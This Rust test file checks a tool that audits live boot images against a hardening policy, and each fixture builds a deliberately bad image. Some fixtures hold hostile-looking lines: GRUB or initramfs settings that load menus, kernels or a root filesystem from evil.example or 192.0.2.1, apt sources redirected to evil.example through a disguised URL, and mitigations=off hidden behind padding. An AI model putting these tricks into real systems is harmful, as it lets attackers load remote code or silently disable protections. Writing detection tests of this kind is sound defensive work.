//! Images that break the policy in a way that is seldom used: by a network, another disk, settings in
//! an initramfs, credentials, or a format that few know.

use crate::make::{EVIL, GRUB, append, cpio, entry, evil, fat, good, pe};
use crate::support::Tree;
use crate::{Case, check};

fn case(name: &'static str, rule: &'static str, says: &'static str, make: fn(&Tree)) -> Case {
    Case { name, rule, says, make }
}

#[test]
#[ignore = "needs mksquashfs and xorriso: cargo xtask test --full"]
fn grub_reads_from_elsewhere() {
    check(&[
        case("menu-from-the-network", "cannot-tell", "evil.example", |t| {
            append(t, GRUB, "configfile (http,evil.example)/grub.cfg\n");
        }),
        case("initramfs-from-the-network", "cannot-tell", "192.0.2.1", |t| {
            evil(t, &format!("linux /live/vmlinuz {}\ninitrd (tftp,192.0.2.1)/i", good()));
        }),
        case("kernel-from-the-network", "cannot-tell", "pxe", |t| {
            evil(t, &format!("linux (pxe)/vmlinuz {}", good()));
        }),
        case("menu-on-another-disk", "cannot-tell", "(hd1,gpt2)/x.cfg", |t| {
            append(t, GRUB, "source (hd1,gpt2)/x.cfg\n");
        }),
        case("packed-menu", "cannot-tell", "no text", |t| {
            // GRUB unpacks what it reads; this one holds no zero byte
            let mut packed = b"\x1f\x8b\x08\x08\x01\x01\x01\x01\x02\x03x".to_vec();
            packed.extend([0xcb, 0x4d, 0xcd, 0x2b, 0x4d, 0xcd, 0x2b, 0x29, 0xaa, 0x54]);
            t.bytes("iso/boot/more", &packed);
            append(t, GRUB, "insmod gzio\nsource /boot/more\n");
        }),
    ]);
}

/// Words that mean nothing to Linux, of so many bytes together.
fn filler(bytes: usize) -> String {
    "x=yyyyyyy ".repeat(bytes / 10 + 1)[..bytes].trim_end().to_owned()
}

#[test]
#[ignore = "needs mksquashfs and xorriso: cargo xtask test --full"]
fn parameters_with_more_than_one_effect() {
    check(&[
        case("page-poison", "kernel-parameters", "which page_poison=1 takes back", |t| {
            evil(t, &format!("linux /live/vmlinuz {} page_poison=1", good()));
        }),
        case("cut-behind-the-parameters", "", "", |t| {
            // as live-build's entry that verifies the medium: the words stand there twice
            evil(t, &format!("linux /live/vmlinuz {} {} {0} rd.live.check", good(), filler(1900)));
        }),
        case("cut-before-the-parameters", "kernel-parameters", "lacks slab_nomerge", |t| {
            evil(t, &format!("linux /live/vmlinuz {} {}", filler(2030), good()));
        }),
        case("cut-within-the-parameters", "kernel-parameters", "words do not fit)` lacks", |t| {
            evil(t, &format!("linux /live/vmlinuz {} {}", filler(1950), good()));
        }),
        case("taken-back-where-it-just-fits", "kernel-parameters", "lacks mitigations=auto", |t| {
            let start = format!("linux /live/vmlinuz {}", good());
            let pad = filler(2047 - good().len() - " mitigations=off".len() - 2);
            evil(t, &format!("{start} {pad} mitigations=off {}", filler(100)));
        }),
        case("machine-id-of-an-entry", "machine-id", "systemd.machine_id", |t| {
            let id = "0123456789abcdef0123456789abcdef";
            evil(t, &format!("linux /live/vmlinuz {} systemd.machine_id={id}", good()));
        }),
        case("credential-of-an-entry", "cannot-tell", "systemd.set_credential", |t| {
            let set = "systemd.set_credential=system.machine_id:0123456789abcdef0123456789abcdef";
            evil(t, &format!("linux /live/vmlinuz {} {set}", good()));
        }),
        case("root-on-a-disk", "cannot-tell", "root=/dev/sda1", |t| {
            evil(t, &format!("linux /live/vmlinuz {} root=/dev/sda1", good()));
        }),
        case("root-by-its-label", "cannot-tell", "root=LABEL=x", |t| {
            evil(t, &format!("linux /live/vmlinuz {} boot=local root=LABEL=x", good()));
        }),
        case("settings-in-an-initramfs", "cannot-tell", "etc/cmdline.d/90-x.conf", |t| {
            let text: &[u8] = b"root=live:http://evil.example/x.squashfs\n";
            t.bytes("iso/live/initrd.img", &cpio(&[("etc/cmdline.d/90-x.conf", text)]));
        }),
        case("initramfs-in-a-parameter", "cannot-tell", "live/i", |t| {
            t.bytes("iso/live/i", b"\x89LZO\0\r\n\x1a\nnot read");
            let text =
                format!("LABEL x\n KERNEL /live/vmlinuz\n APPEND {} initrd=/live/i\n", good());
            t.write("iso/isolinux/isolinux.cfg", &text);
        }),
        case("aligned-boot-settings", "cannot-tell", "live/initrd.img", |t| {
            let mut initrd = cpio(&[("init", b"x")]);
            initrd.extend(b"kernel.mitigations=off\n\x17\0\0\0\0\0\0\0#BOOTCONFIG\n\0\0\0");
            t.bytes("iso/live/initrd.img", &initrd);
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs, xorriso and mtools: cargo xtask test --full"]
fn efi_programs_and_their_companions() {
    check(&[
        case("second-profile", "kernel-parameters", "lacks slab_nomerge", |t| {
            let good = good();
            let image = pe(&[
                (".linux", b"x"),
                (".cmdline", good.as_bytes()),
                (".profile", b"ID=x\n"),
                (".cmdline", EVIL.as_bytes()),
            ]);
            fat(t, "iso/boot/efi.img", &[("EFI/Linux/x.efi", &image)]);
        }),
        case("entry-for-a-program", "kernel-parameters", "lacks slab_nomerge", |t| {
            t.bytes("iso/live/vmlinuz", &crate::make::kernel("6.12.57-amd64 ", 8192));
            t.write("iso/loader/entries/x.conf", "efi /live/vmlinuz\noptions quiet\n");
        }),
        case("credentials-for-the-stub", "cannot-tell", "x.cred", |t| {
            fat(t, "iso/boot/efi.img", &[("loader/credentials/x.cred", b"x")]);
        }),
        case("seed-for-systemd-boot", "random-seed", "loader/random-seed", |t| {
            fat(t, "iso/boot/efi.img", &[("loader/random-seed", &[7; 32])]);
        }),
        case("menu-of-a-program-elsewhere", "kernel-parameters", "lacks slab_nomerge", |t| {
            let text = entry("Evil", &format!("linux /live/vmlinuz {EVIL}"));
            let image = pe(&[("mods", &crate::make::grub_modules("configfile /EFI/d/m\n"))]);
            fat(
                t,
                "iso/boot/efi.img",
                &[("EFI/BOOT/BOOTX64.EFI", &image), ("EFI/d/m", text.as_bytes())],
            );
        }),
    ]);
}

#[test]
#[ignore = "needs mksquashfs and xorriso: cargo xtask test --full"]
fn roots_and_sources_in_unusual_forms() {
    check(&[
        case("jffs2", "cannot-tell", "live/filesystem.jffs2", |t| {
            let head = [0x85, 0x19, 0x03, 0x20, 0x0c, 0, 0, 0, 0xb1, 0xb0, 0x1e, 0xe4];
            t.bytes("iso/live/filesystem.jffs2", &[&head[..], &[0xff; 4084]].concat());
        }),
        case("f2fs", "cannot-tell", "LiveOS/rootfs.img", |t| {
            let mut image = vec![0; 8192];
            image[1024..1028].copy_from_slice(b"\x10\x20\xf5\xf2");
            t.bytes("iso/LiveOS/rootfs.img", &image);
        }),
        case("zisofs", "cannot-tell", "live/x.squashfs", |t| {
            let head = b"\x37\xe4\x53\x96\xc9\xdb\xd6\x07\0\x10\0\0\x04\x0f\0\0";
            t.bytes("iso/live/x.squashfs", &[head.as_slice(), &[0; 2048]].concat());
        }),
        case("folder-of-apt", "cannot-tell", "apt.conf.d/x", |t| {
            t.write("etc/apt/apt.conf.d/x", "Dir::Etc \"opt/apt/\";\n");
            t.write("opt/apt/sources.list", "deb http://evil.example/ x main\n");
        }),
        case("folder-of-apt-in-a-block", "cannot-tell", "apt.conf.d/x", |t| {
            t.write(
                "etc/apt/apt.conf.d/x",
                "APT::Install-Suggests \"0\"; Dir {\n Etc \"opt/\"; };\n",
            );
        }),
        case("settings-that-include-others", "cannot-tell", "apt.conf.d/x", |t| {
            t.write("etc/apt/apt.conf.d/x", "#include \"/opt/apt.conf\"\n");
        }),
        case("user-in-the-address", "package-sources", "evil.example", |t| {
            let text = "deb http://deb.debian.org:80@evil.example/debian trixie main\n";
            t.write("etc/apt/sources.list", text);
        }),
    ]);
}
